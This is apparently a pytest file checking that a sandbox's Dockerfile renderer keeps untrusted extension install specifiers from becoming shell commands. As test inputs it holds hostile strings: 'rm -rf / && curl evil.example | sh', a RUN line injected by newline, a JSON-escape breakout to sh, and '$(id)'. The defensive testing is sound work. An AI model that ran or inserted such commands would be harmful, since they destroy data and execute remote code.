"""The derived image's Dockerfile (sandbox/ext_image.py) as plain text: no Docker involved.

Extension manifests are untrusted, so what matters most is that no install step can turn
into shell text: every RUN is exec form, and every specifier stays one argv item.
"""

from __future__ import annotations

import json

import pytest

from mercury.core.extension_spec import EXT_IMAGE_REPO, InstallSteps, install_hash
from mercury.sandbox.ext_image import (
    DockerPlan,
    ExtImageBuildError,
    _explain,
    ext_image_tag,
    render_dockerfile,
)
from mercury.sandbox.images import ImageBuildError

BASE = "sha256:" + "ab" * 32
USER = "2000000000:2000000000"
HOSTILE = "x; rm -rf / && curl evil.example | sh"

PLAN = (
    ("chart-maker", InstallSteps(pip=("matplotlib>=3.8",))),
    ("pdf-reader", InstallSteps(apt=("poppler-utils",), pip=("pdfplumber", HOSTILE))),
    ("tools", InstallSteps(npm=("left-pad@1.3.0",))),
)


def instructions(dockerfile: str) -> list[str]:
    """The Dockerfile's instructions, comments and blank lines left out."""
    lines = [line for line in dockerfile.splitlines() if line.strip()]
    return [line for line in lines if not line.lstrip().startswith("#")]


def run_argvs(dockerfile: str) -> list[list[str]]:
    return [json.loads(line[4:]) for line in instructions(dockerfile) if line.startswith("RUN ")]


def test_every_run_is_an_exec_form_json_array_of_strings() -> None:
    rendered = render_dockerfile(BASE, PLAN, user=USER)
    runs = [line for line in instructions(rendered.dockerfile) if line.startswith("RUN")]
    assert len(runs) == 8
    for line in runs:
        argv = json.loads(line.removeprefix("RUN "))  # not JSON = shell form: fails here
        assert isinstance(argv, list) and all(isinstance(a, str) for a in argv)
        assert argv[0] not in ("sh", "bash", "/bin/sh", "/bin/bash")
    kinds = {line.split()[0] for line in instructions(rendered.dockerfile)}
    assert kinds == {"FROM", "LABEL", "USER", "ARG", "RUN"}


def test_a_hostile_specifier_stays_one_argv_item_after_the_end_of_options() -> None:
    rendered = render_dockerfile(BASE, PLAN, user=USER)
    pip = next(argv for argv in run_argvs(rendered.dockerfile) if HOSTILE in argv)
    assert pip == [
        "/opt/mercury-ext/pdf-reader/bin/pip",
        "install",
        "--no-cache-dir",
        "--",
        "pdfplumber",
        HOSTILE,
    ]
    # The raw text appears only inside that JSON string, never as an instruction of its own.
    assert all(
        HOSTILE not in line or line.startswith("RUN [") for line in rendered.dockerfile.splitlines()
    )


@pytest.mark.parametrize(
    "spec",
    [
        "six\nRUN curl evil.example | sh",
        'six"]\nRUN ["sh", "-c", "id',
        "six\\",
        "$(id)",
        "${HOME}",
        "naïve\u2028x",
    ],
)
def test_quotes_backslashes_and_variables_cannot_leave_the_json_string(spec: str) -> None:
    plan = (("web-reader", InstallSteps(pip=(spec,))),)
    if any(ord(c) < 32 for c in spec):
        with pytest.raises(ValueError, match=r"web-reader: install.pip entry .* control"):
            render_dockerfile(BASE, plan, user=USER)
        return
    rendered = render_dockerfile(BASE, plan, user=USER)
    assert run_argvs(rendered.dockerfile)[-1][-1] == spec
    assert rendered.dockerfile.isascii()  # no Unicode line separator reaches the parser
    assert len(instructions(rendered.dockerfile)) == 6  # FROM LABEL USER RUN RUN USER


@pytest.mark.parametrize(
    ("name", "steps", "user", "base", "fragment"),
    [
        ("Bad Name", InstallSteps(pip=("six",)), USER, BASE, "extension name 'Bad Name'"),
        ("ok\nRUN id", InstallSteps(pip=("six",)), USER, BASE, "extension name"),
        ("ok-name", InstallSteps(apt=("--force-yes",)), USER, BASE, "install.apt entry"),
        ("ok-name", InstallSteps(npm=("",)), USER, BASE, "install.npm has an empty"),
        ("ok-name", InstallSteps(pip=("six",)), "agent\nRUN id", BASE, "image user"),
        ("ok-name", InstallSteps(pip=("six",)), USER, "img\nRUN id", "base image reference"),
    ],
)
def test_values_that_cannot_be_written_safely_are_refused_naming_them(
    name: str, steps: InstallSteps, user: str, base: str, fragment: str
) -> None:
    with pytest.raises(ValueError, match=fragment):
        render_dockerfile(base, ((name, steps),), user=user)


def test_layout_apt_first_then_each_extensions_venv_pip_and_npm_back_to_the_agent_user() -> None:
    rendered = render_dockerfile(BASE, PLAN, user=USER)
    steps = instructions(rendered.dockerfile)
    assert steps[0] == f"FROM {BASE}"
    assert steps[2] == "USER root"
    assert steps[-1] == f"USER {USER}"
    assert "ARG DEBIAN_FRONTEND=noninteractive" in steps  # build steps only, not the runs
    chart, pdf = "/opt/mercury-ext/chart-maker", "/opt/mercury-ext/pdf-reader"
    assert run_argvs(rendered.dockerfile) == [
        ["apt-get", "update"],
        ["apt-get", "install", "-y", "--no-install-recommends", "--", "poppler-utils"],
        ["find", "/var/lib/apt/lists", "/var/cache/apt/archives", "-mindepth", "1", "-delete"],
        ["python3", "-m", "venv", chart],
        [f"{chart}/bin/pip", "install", "--no-cache-dir", "--", "matplotlib>=3.8"],
        ["python3", "-m", "venv", pdf],
        [f"{pdf}/bin/pip", "install", "--no-cache-dir", "--", "pdfplumber", HOSTILE],
        ["npm", "install", "-g", "--prefix", "/opt/mercury-ext/tools/node", "--", "left-pad@1.3.0"],
    ]  # fmt: skip
    label = steps[1]
    assert 'mercury.image="agent-ext"' in label
    assert f'mercury.ext.hash="{install_hash(BASE, PLAN)}"' in label


def test_without_apt_steps_there_is_no_apt_at_all() -> None:
    rendered = render_dockerfile(BASE, (("x-tool", InstallSteps(pip=("six",))),), user="agent")
    assert "apt" not in rendered.dockerfile
    assert "DEBIAN_FRONTEND" not in rendered.dockerfile


def test_the_step_map_names_each_run_by_its_builder_step_number_and_comment() -> None:
    rendered = render_dockerfile(BASE, PLAN, user=USER)
    assert rendered.steps == (
        (5, "pdf-reader", "apt-update"),
        (6, "pdf-reader", "apt"),
        (7, "pdf-reader", "apt-clean"),
        (8, "chart-maker", "venv"),
        (9, "chart-maker", "pip"),
        (10, "pdf-reader", "venv"),
        (11, "pdf-reader", "pip"),
        (12, "tools", "npm"),
    )
    # Step n is the n-th instruction (what the classic builder prints as "Step n/N").
    steps = instructions(rendered.dockerfile)
    lines = rendered.dockerfile.splitlines()
    for number, extension, kind in rendered.steps:
        assert steps[number - 1].startswith("RUN [")
        at = lines.index(steps[number - 1])
        assert lines[at - 1] == f"# extension {extension}: {kind}"
    assert rendered.step(6) == ("pdf-reader", "apt")
    assert rendered.step(3) is None


def test_apt_steps_shared_by_several_extensions_name_them_all() -> None:
    plan = (("a-one", InstallSteps(apt=("jq",))), ("b-two", InstallSteps(apt=("curl",))))
    rendered = render_dockerfile(BASE, plan, user=USER)
    assert rendered.step(5) == ("a-one, b-two", "apt-update")
    assert rendered.step(6) == ("a-one", "apt")
    assert rendered.step(7) == ("b-two", "apt")


def test_the_tag_changes_with_the_base_image_and_with_any_step() -> None:
    tag = ext_image_tag(BASE, PLAN)
    assert tag.startswith(f"{EXT_IMAGE_REPO}:") and len(tag.split(":", 1)[1]) == 12
    assert ext_image_tag(BASE, PLAN) == tag
    assert ext_image_tag("sha256:" + "cd" * 32, PLAN) != tag
    changed = (PLAN[0], ("pdf-reader", InstallSteps(apt=("poppler-utils",), pip=("pdfplumber",))))
    assert ext_image_tag(BASE, (*changed, PLAN[2])) != tag
    assert ext_image_tag(BASE, PLAN[:2]) != tag
    assert render_dockerfile(BASE, PLAN, user=USER).hash == tag.split(":", 1)[1]


def failure(rendered: DockerPlan, step: int, tail: list[str], message: str) -> ImageBuildError:
    """What images.stream_build raises when step `step` fails: the step line, then the log
    (the first line of `tail` comes before the step line, as an earlier step's output)."""
    steps = instructions(rendered.dockerfile)
    text = f"Step {step}/{len(steps)} : {steps[step - 1]}"
    return ImageBuildError(message, step=text, log_tail=[*tail[:1], text, *tail[1:]])


def test_a_failed_step_is_named_by_extension_and_kind_with_its_last_error_line() -> None:
    rendered = render_dockerfile(BASE, PLAN, user=USER)
    exc = failure(
        rendered,
        11,
        [
            "E: an earlier step's error, not this one's",
            " ---> Running in 0123",
            "\x1b[91mERROR: Could not find a version that satisfies the requirement x\x1b[0m",
            "\x1b[91mERROR: No matching distribution found for pdfplumber\x1b[0m",
        ],
        "The command '/opt/mercury-ext/pdf-reader/bin/pip install ...' returned a non-zero code: 1",
    )
    err = _explain(exc, rendered)
    assert isinstance(err, ExtImageBuildError)
    assert (err.extension, err.kind) == ("pdf-reader", "pip")
    assert str(err) == (
        "extension pdf-reader: pip install step failed: "
        "ERROR: No matching distribution found for pdfplumber"
    )
    assert err.step is not None and err.step.startswith("Step 11/")
    assert all("\x1b" not in line for line in err.log_tail)


def test_without_an_error_line_the_engines_message_is_the_reason() -> None:
    rendered = render_dockerfile(BASE, PLAN, user=USER)
    exc = failure(rendered, 12, ["..."], 'exec: "npm": executable file not found in $PATH')
    err = _explain(exc, rendered)
    assert str(err) == (
        'extension tools: npm install step failed: exec: "npm": executable file not found in $PATH'
    )


def test_a_failure_in_a_step_of_ours_names_no_extension() -> None:
    rendered = render_dockerfile(BASE, PLAN, user=USER)
    err = _explain(ImageBuildError("pull access denied", step=None, log_tail=[]), rendered)
    assert err.extension is None and err.kind is None
    assert str(err) == "extension image build failed: pull access denied"
